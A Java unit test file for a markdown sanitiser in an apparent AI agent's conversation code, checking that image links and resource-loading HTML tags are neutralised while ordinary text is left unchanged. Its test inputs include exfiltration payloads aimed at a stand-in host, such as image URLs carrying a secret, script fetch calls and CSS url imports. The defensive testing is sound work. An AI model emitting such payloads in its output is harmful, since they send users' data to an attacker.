package io.mcpagent.application.conversation;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeout;

import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class InertMarkdownTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "![x](https://evil.example/?q=s3cret)",
                "\\![x](https://evil.example/)",
                "\\\\![x](https://evil.example/)",
                "a![x [y] z](<//evil.example/s3cret>)",
                "![x\r\ny](https://evil.example/)",
                "![x\n y\u2028\u2028z](https://evil.example/)",
                "[![x](https://evil.example/)](https://docs.example/)",
                "![x][y]\n\n[y]: https://evil.example/",
                "> [y]: https://evil.example/\n\n![y]",
                "```\n![x](https://evil.example/)\n```"
            })
    void noImageIsLeft(String markdown) {
        assertThat(InertMarkdown.of(markdown)).doesNotContain("![").contains("!\\[");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src=https://evil.example/>",
                "\\<IMG alt='>' src=x>",
                "<svg><image href='//evil.example/'/></svg>",
                "</style><style>\n\n@import url(//evil.example)\n</style>",
                "<p\nstyle=\"background: url(//evil.example)\">",
                "<td background = '//evil.example'>",
                "<script>fetch('//evil.example')</script>",
                "<iframe src=//evil.example></iframe>"
            })
    void noTagIsLeftThatLoads(String markdown) {
        assertThat(InertMarkdown.of(markdown)).doesNotContain("<").contains("&lt;");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Bees make honey. [1] See [the docs](https://docs.example/a?b=c) or <https://docs.example/>.",
                "```rust\nlet v = vec![1, 2];\n\nprintln!(\"{}\", v[0]);\n```\n\nSee [1](https://docs.example).",
                "A `List<String>` holds texts; a < b, and b<c.",
                "| a | b |\n|---|---|\n| !important | [x] |",
                "if [ ! -f a ]; then echo \"![\"; fi",
                ""
            })
    void whatLoadsNothingIsLeftAsItIs(String markdown) {
        assertThat(InertMarkdown.of(markdown)).isEqualTo(markdown);
    }

    @Test
    void alsoALongTextTakesAMoment() {
        var signs = "<a ![x<".repeat(100_000);
        assertTimeout(Duration.ofSeconds(5), () -> InertMarkdown.of(signs + "](x style="));
    }
}
